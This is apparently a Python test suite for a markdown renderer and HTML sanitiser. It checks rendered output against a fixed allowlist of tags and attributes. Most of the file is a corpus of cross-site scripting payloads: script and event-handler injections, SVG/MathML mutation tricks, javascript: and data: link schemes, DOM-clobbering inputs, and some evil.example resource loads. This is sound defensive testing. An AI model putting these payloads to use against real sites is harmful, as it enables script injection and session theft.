"""Nothing that a text can hold comes alive on a page.

The list of what may be in the HTML is written here a second time, so that loosening it takes two people to agree.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cop.platform.markup import TEXT_LIMIT_BYTES, plain_text, render
from cop.platform.markup.cleaning import clean_html

CODE = {"c", "err", "gd", "gh", "gi", "k", "m", "na", "nf", "nt", "s"}
LINK = re.compile(r"(?:https?://[^\s/?#@\\]|mailto:[^\s@]+@)", re.IGNORECASE)
ATTRIBUTES: dict[str, dict[str, Callable[[str], object]]] = {
    "a": {"href": LINK.match, "rel": {"nofollow ugc noopener"}.__contains__},
    "code": {},
    "div": {
        "class": {"scroll-x"}.__contains__,
        "tabindex": {"0"}.__contains__,
        "role": {"region"}.__contains__,
        "aria-label": lambda words: True,
    },
    "ol": {"start": re.compile(r"[0-9]{1,9}\Z").match},
    "pre": {"tabindex": {"0"}.__contains__},
    "span": {"class": CODE.__contains__},
    "table": {"class": {"tbl"}.__contains__},
    "td": {"class": {"num"}.__contains__},
    "th": {"class": {"num"}.__contains__, "scope": {"col"}.__contains__},
}
for bare in "p br hr strong em del blockquote ul li thead tbody tr h3 h4 h5 h6".split():  # noqa: SIM905 - one line
    ATTRIBUTES[bare] = {}


ELEMENTS = (
    """
<script>alert(1)</script>
<ScRiPt >alert(1)</sCrIpT>
<script src=//evil.example/x.js></script>
<script\t>alert(1)</script\t>
<<script>script>alert(1)<</script>/script>
<script/x>alert(1)</script>
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src='x' onerror='alert(1)' alt=">">
<IMG """
    + '"""'
    + """><SCRIPT>alert(1)</SCRIPT>">
<img srcset="x 1x" onload=alert(1)>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html,<script>alert(1)</script>">
<applet code=x></applet>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<input autofocus onfocus=alert(1)>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<div onmouseover="alert(1)">x</div>
<p style="background:url(javascript:alert(1))">x</p>
<div style="width:expression(alert(1))">x</div>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example/x.html>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="//evil.example/">
<isindex action=javascript:alert(1)>
<plaintext>
<xmp><script>alert(1)</script></xmp>
<noembed><script>alert(1)</script></noembed>
<noframes><script>alert(1)</script></noframes>
<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>
<frameset onload=alert(1)><frame src=x></frameset>
<dialog open onclose=alert(1)>x</dialog>
<x onclick=alert(1) contenteditable autofocus tabindex=1>x</x>
<a href="javascript:alert(1)" onclick=alert(1)>x</a>
<button popovertarget=x onclick=alert(1)>x</button>
<slot onslotchange=alert(1)></slot>
<portal src=javascript:alert(1)></portal>
<style>@import '//evil.example/x.css';</style>
"""
)

CLOBBERING = """
<form action="//evil.example"><input name=submit></form>
<button form=search formaction="javascript:alert(1)">x</button>
<input id=csrf_token name=csrf_token value=evil>
<a id=csrf_token name=csrf_token href="https://evil.example">x</a>
<img name=cookie>
<form id=document><input name=body></form>
<p id=main class=flash>Sign in again</p>
<div class="flash flash-bad" role=alert>x</div>
<label for=password>x</label>
<output name=forms>x</output>
<map name=x><area href="javascript:alert(1)"></map>
<object name=getElementById></object>
<iframe name=top></iframe>
<h1 id=title>x</h1>
"""

MUTATION = """
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"></use></svg>
<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<title><a title="</title><img src=x onerror=alert(1)>">
<textarea><a title="</textarea><img src=x onerror=alert(1)>">
<style><a title="</style><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<select><template><style><!--</style><a title="--><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<!--><img src=x onerror=alert(1)--!>
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<![endif]--><img src=x onerror=alert(1)>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<?php echo 1 ?><script>alert(1)</script>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<table><td><img src=x onerror=alert(1)><table>
<a><table><a onclick=alert(1)>x</a></table></a>
</p></div></article><script>alert(1)</script>
"""

SCHEMES = """
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](<javascript:alert(1)>)
[x](java&#10;script:alert(1))
[x](java&Tab;script:alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A;avascript:alert(1))
[x](&#0000106avascript:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](\\javascript:alert(1))
[x](j\\avascript:alert(1))
[x](javascript://example.org/%0aalert(1))
[x](https:javascript:alert(1))
[x](http:evil.example)
[x](https:/evil.example)
[x](https:///evil.example)
[x](//evil.example)
[x](///evil.example)
[x](\\\\evil.example)
[x](/\\evil.example)
[x](https:\\\\evil.example)
[x](https://good.example\\@evil.example)
[x](https://good.example@evil.example)
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](DATA:image/svg+xml,x)
[x](vbscript:msgbox(1))
[x](livescript:alert(1))
[x](blob:https://example.org/1-2)
[x](file:///etc/passwd)
[x](ftp://example.org)
[x](tel:+1)
[x](feed:javascript:alert(1))
[x](view-source:javascript:alert(1))
[x](jar:javascript:alert(1))
[x](about:blank)
[x](intent://x#Intent;end)
[x](?q=1)
[x](#csrf_token)
[x](/account/delete)
[x](../account)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg/onload=alert(1)>)
[![x](javascript:alert(1))](javascript:alert(2))
[x][1] [1]: javascript:alert(1)
<javascript:alert(1)>
<javascript://example.org/%0aalert(1)>
<JAVASCRIPT://x>
<data://text/html,x>
<vbscript://x>
<mailto:javascript:alert(1)@x>
<x@y"onclick="alert(1)>
<https://x"onmouseover="alert(1)>
https://user:word@evil.example/
javascript://example.org
"""

ATTRIBUTES_FROM_MARKDOWN = """
[x](https://a.example "onclick=alert(1)")
[x](https://a.example '"><img src=x onerror=alert(1)>')
[x](https://a.example/"onmouseover="alert(1))
[x](https://a.example/'onmouseover='alert(1))
[x](<https://a.example/"><script>alert(1)</script>>)
[x](https://a.example/<script>)
[x](https://a.example/&quot;onclick=&quot;alert(1))
[<img src=x onerror=alert(1)>](https://a.example)
![" onerror="alert(1)](https://a.example/x.png)
!["><script>alert(1)</script>](https://a.example)
[x](https://a.example){: onclick=alert(1) id=csrf_token}
# heading {: #csrf_token onclick=alert(1)}
# heading {#main .flash}
x {: style="position:fixed"}
*[HTML]: <script>alert(1)</script>
[^1]: <script>alert(1)</script>
[TOC]
!!! danger "<script>alert(1)</script>"
@<script>alert(1)</script>
:<script>alert(1)</script>:
https://a.example/<script>alert(1)</script>
https://a.example/"onmouseover="alert(1)
https://a.example/&quot;onmouseover=&quot;alert(1)
https://a.example/`onmouseover=alert(1)`
https://[::1]/<img src=x onerror=alert(1)>
`<script>alert(1)</script>`
``</code><script>alert(1)</script>``
{{7*7}} {%x%} ${alert(1)} #{alert(1)}
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&#0;&#2;wzxhzdk:0&#3; &#2;klzzwxh:0000&#3;
\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03#60;script\x02amp\x03#62;
\x0260\x03script\x0262\x03alert(1)
<scr\x00ipt>alert(1)</scr\x00ipt>
<scr\x02ipt>alert(1)</scr\x02ipt>
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\u202e<script>alert(1)</script>
\ufeff<script>alert(1)</script>
\ud83d<script>alert(1)</script>
"""

BLOCKS = [
    "```<script>alert(1)</script>\nx\n```",
    '```" onclick="alert(1)\nx\n```',
    "```{.python onclick=alert(1) #csrf_token}\nx\n```",
    "```{.python linenos=table anchorlinenos=1 lineanchors=x full=1 cssclass=flash}\nx\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```diff\n+<script>\n-</pre>\n```",
    "~~~\n</pre><img src=x onerror=alert(1)>\n~~~",
    "    </code></pre><script>alert(1)</script>",
    '| "><script>alert(1)</script> | b |\n|---|---|\n| 1 | 2 |',
    '| " onfocus="alert(1) | &quot; autofocus |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |',
    "| a |\n|:---:{: onclick=x}|\n| b |",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x][y]\n\n[y]: https://a.example "\\"><script>alert(1)</script>"',
    "[x]\n\n[x]: data:text/html,x",
    "![x][y]\n\n[y]: javascript:alert(1)",
    "[x]:\n javascript:alert(1)\n\n[x]",
    "[java\nscript](java\nscript:alert(1))",
    "<script>\n\nalert(1)\n\n</script>",
    '<div markdown="1">\n\n<script>alert(1)</script>\n\n</div>',
    "<!--\n\n-->\n\n<img src=x onerror=alert(1)>",
    "> <script>\n> alert(1)\n> </script>",
    "- <script>\n- alert(1)\n- </script>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<a\nhref='javascript:alert(1)'>x</a>",
    "99999999999999999999. x",
    "1. a\n   <script>alert(1)</script>\n2. b",
    "\x02wzxhzdk:0\x03\n\n```\n<script>\n```",
]

ONE_LINE = [
    line
    for group in (ELEMENTS, CLOBBERING, MUTATION, SCHEMES, ATTRIBUTES_FROM_MARKDOWN)
    for line in group.split("\n")
    if line
]
PLACES = [
    "{}",
    "# {}",
    "**{}**",
    "- {}",
    "> {}",
    "[{}](https://a.example)",
    "![{}](https://a.example/x.png)",
    "| {} | b |\n|---|--:|\n| {} | 2 |",
    "`{}`",
    "```html\n{}\n```",
    "    {}",
    "[x]: {}\n\n[x]",
    "https://a.example/{}",
]


def parse(html: str) -> Element:
    return html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)


def serialise(tree: Element) -> str:
    return html5lib.serialize(tree, tree="etree", quote_attr_values="always", omit_optional_tags=False)


def assert_harmless(html: str) -> None:
    tree = parse(html)
    for element in tree.iter():
        if element is tree:
            continue
        assert element.tag in ATTRIBUTES, element.tag
        for name, value in element.attrib.items():
            is_allowed = ATTRIBUTES[element.tag].get(name)
            assert is_allowed, (element.tag, name)
            assert is_allowed(value), (element.tag, name, value)
        if "href" in element.attrib:
            assert element.get("rel") == "nofollow ugc noopener"


def assert_stable(html: str) -> None:
    """A second parser reads the same, however often it is read and written."""
    once = serialise(parse(html))
    assert serialise(parse(once)) == once
    assert_harmless(once)


def test_the_collection_is_as_large_as_it_was() -> None:
    assert len(ONE_LINE) + len(BLOCKS) >= 200


@pytest.mark.parametrize("payload", ONE_LINE)
def test_nothing_comes_alive_wherever_it_stands(payload: str) -> None:
    html = render("\n\n".join(place.replace("{}", payload) for place in PLACES)).html
    assert "<h3>" in html  # it was rendered, not merely escaped
    assert_harmless(html)
    assert_stable(html)


@pytest.mark.parametrize("payload", BLOCKS)
def test_nothing_comes_alive_in_blocks(payload: str) -> None:
    html = render(f"before\n\n{payload}\n\n**after**").html
    assert_harmless(html)
    assert_stable(html)


@pytest.mark.parametrize("payload", [line for line in SCHEMES.split("\n") if line.startswith("[x](")])
def test_a_link_to_where_links_may_not_lead_is_its_words(payload: str) -> None:
    html = render(payload).html
    assert "<a" not in html
    assert "x" in plain_text(html)


@pytest.mark.parametrize("payload", [line for line in ELEMENTS.split("\n") if line])
def test_an_element_is_shown_as_it_was_typed(payload: str) -> None:
    words = "".join(parse(render(payload).html).itertext())
    assert words.startswith("<")
    assert words.count("<") >= payload.count("<")


PIECES_OF_MARKDOWN = """
* ** _ ` ``` ~~~ ~~ # > - 1. | |-|-| [ ]( ) ![ ]: < > & \\ " ' : = --- <b> </b> <!-- --> <![CDATA[ <script> </script>
onclick= javascript: https://a.example http:// &lt; &#60; { } é 漢 😀
"""
SPACES = ["\n", "\n\n", "    ", " ", "  \n", "\n> ", "\n- ", "\n|a|b|\n|-|-|\n", "\t", "\r\n"]
ODDITIES = ["\x00", "\x02", "\x03", "\ud800", "\u202e", "\u2028", "\ufffe"]
PIECES_OF_HTML = """
<p>|</p>|<a>|</a>|<a href='javascript:x'>|<a href=http:evil>|<a href=https://a@b>|<a href=/x>|<a href=https://x>|<a href="https://x/<b>">|<svg>|</svg>|<math>|</math>
<style>|</style>|<mtext>|<mglyph>|<annotation-xml encoding=text/html>|<table>|</table>|<td class='num x'>|<th>|<tr>
<pre>|</pre>|<code>|<li>|<ul>|<ol start=3>|<ol start=x>|<div class=scroll-x aria-label='<b>'>|<div class=flash id=x>
<span class=k>|<span class='k flash'>|<!--|-->|<![CDATA[|]]>|<template>|<select>|<noscript>|<title>|<textarea>|<form>
<img src=x onerror=y>|<h1>|<h3>|<em>|<strong>|<br>|</br>|"|'|>|<|&|&lt;|&amp;lt;
"""

MARKDOWN = st.sampled_from([*PIECES_OF_MARKDOWN.split(), *SPACES, *ODDITIES])
TEXTS = st.lists(MARKDOWN | st.text(max_size=4), max_size=40).map("".join)
HTML = st.lists(st.sampled_from(re.split(r"[|\n]", PIECES_OF_HTML.strip())) | st.text(max_size=4), max_size=30).map(
    "".join
)


@settings(max_examples=400, deadline=None)
@given(TEXTS)
def test_any_text_gives_harmless_html(source: str) -> None:
    rendered = render(source)
    rendered.source.encode()
    assert clean_html(rendered.html) == rendered.html
    assert_harmless(rendered.html)
    assert_stable(rendered.html)


@settings(max_examples=200, deadline=None)
@given(TEXTS)
def test_what_was_tidied_once_renders_to_the_same(source: str) -> None:
    rendered = render(source)
    assert render(rendered.source) == rendered


@settings(max_examples=400, deadline=None)
@given(HTML)
def test_cleaning_makes_any_html_harmless_however_often_it_is_read_again(html: str) -> None:
    clean = clean_html(html)
    assert_harmless(clean)
    assert_harmless(serialise(parse(clean)))
    assert_harmless(clean_html(clean))


@settings(max_examples=25, deadline=None)
@given(TEXTS, st.integers(min_value=1, max_value=3000))
def test_a_repeated_text_is_answered_too(source: str, times: int) -> None:
    html = render((source * times)[: TEXT_LIMIT_BYTES // 4]).html
    assert_harmless(html)


@settings(max_examples=200, deadline=None)
@given(TEXTS)
def test_the_words_read_back_hold_no_markup_of_ours(source: str) -> None:
    rendered = render(source)
    words = "".join(parse(rendered.html).itertext())
    assert plain_text(rendered.html).replace(" ", "") == "".join(words.split())
